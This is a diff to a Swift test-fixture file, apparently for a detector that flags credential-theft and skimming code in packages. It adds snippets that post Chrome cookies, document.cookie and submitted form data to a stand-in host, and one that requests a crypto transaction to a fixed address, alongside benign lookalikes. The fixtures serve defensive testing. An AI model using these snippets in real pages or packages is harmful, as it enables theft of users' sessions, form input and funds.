@@ -43,8 +43,22 @@ let indicatorCredentialFixtures = RuleFixtures(
         .securityServiceMemory: pythonPackage("lib.MiniDumpWriteDump\nn = 'MiniDumpWriteDump'\np = 'lsass.exe'"),
         .namesRunnerProcess: scriptPackage("const p = 'Runner.Worker'"),
         .processMemoryFile: pythonPackage("path = '/proc/self/mem'"),
+        .browserCookiesTaken: pythonPackage(
+            "import browser_cookie3, requests\nrequests.post('https://x.example', data=str(browser_cookie3.chrome()))"),
+        .pageSecretsSent: scriptPackage("new Image().src = 'https://x.example/?c=' + btoa(document.cookie)"),
+        .formsSent: scriptPackage(
+            "document.addEventListener('submit', e => navigator.sendBeacon('https://x.example/c', new FormData(e.target)))"
+        ),
+        .paymentAsked: scriptPackage(
+            "window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from, "
+                + "to: '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976' }] })"),
     ],
     clean: [
+        "CRED-PAGE": scriptPackage(
+            """
+            const theme = document.cookie.match(/theme=(\\w+)/); form.addEventListener('submit', save)
+            new Image().src = 'https://x.example/a.png'; fetch('/api', { body: new FormData(form) })
+            """),
         "CRED-FILE": scriptPackage(
             """
             // reads ~/.aws/credentials
